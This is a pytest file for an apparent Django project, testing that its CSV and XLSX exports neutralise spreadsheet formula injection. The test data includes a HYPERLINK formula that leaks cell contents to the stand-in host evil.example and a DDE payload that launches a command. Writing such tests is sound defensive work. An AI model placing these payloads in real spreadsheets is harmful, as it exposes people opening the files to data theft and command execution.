"""Spreadsheet formula injection (issue 18, item 15): a value written by a person, such as
``=HYPERLINK("http://evil.example/?"&A1,"Ver")``, comes out of every CSV and spreadsheet minga
writes as text, never as a live formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from minga.core.spreadsheet import safe_cell
from minga.funds.models import Fund
from minga.initiatives.models import Initiative
from minga.tables.models import Organization, Table

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+57 300 1234567 * 2", "'+57 300 1234567 * 2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a plain number stays a number
        ("+3", "+3"),
        (-12, -12),
        ("Shuar Arutam", "Shuar Arutam"),
    ],
)
def test_each_cell_is_neutralised_by_owasp_s_rule(value, written):
    assert safe_cell(value) == written


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_public_and_member_downloads_carry_no_live_formula(db, client_for):
    table = Table.objects.get(slug="morona-santiago")
    member = Organization.objects.filter(memberships__table=table).first()
    Organization.objects.filter(pk=member.pk).update(name=EVIL)
    initiative = Initiative.objects.filter(table=table, is_joint=False).first()
    Initiative.objects.filter(pk=initiative.pk).update(title=EVIL)
    public = client_for("public")

    members = _rows(public.get(f"/open-data/{table.slug}/members.csv").content.decode())
    names = [row[members[0].index("name")] for row in members[1:]]
    assert "'" + EVIL in names and EVIL not in names

    exported = _rows(public.get(f"/t/{table.slug}/initiatives/export.csv").content.decode("utf-8"))
    cells = [c for row in exported for c in row]
    assert "'" + EVIL in cells and EVIL not in cells

    book = openpyxl.load_workbook(
        io.BytesIO(public.get(f"/t/{table.slug}/initiatives/export.xlsx").content)
    )
    found = [c for row in book.active.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" for c in found)  # text, not a formula

    fund = Fund.objects.first()
    last = fund.transactions.order_by("-pk").first()
    type(last).objects.filter(pk=last.pk).update(description="@SUM(1+1)*cmd|' /C calc'!A0")
    lines = _rows(public.get(f"/funds/{fund.slug}/transactions.csv").content.decode())
    described = [row[lines[0].index("description")] for row in lines[1:]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in described
    amounts = [row[lines[0].index("amount")] for row in lines[1:]]
    assert all(not a.startswith("'") for a in amounts)


def test_an_exported_title_comes_back_unchanged_when_imported_again():
    from minga.core.spreadsheet import read_rows, write_csv

    written = write_csv(["title"], [[EVIL], ["-12.50"]])
    assert b"'=HYPERLINK" in written
    rows = read_rows(io.BytesIO(written), "back.csv", columns=["title"], required=["title"])
    assert rows == [{"title": EVIL}, {"title": "-12.50"}]


def test_every_csv_is_written_by_the_one_safe_writer():
    source = Path(__file__).resolve().parents[1]
    offenders = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheet.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
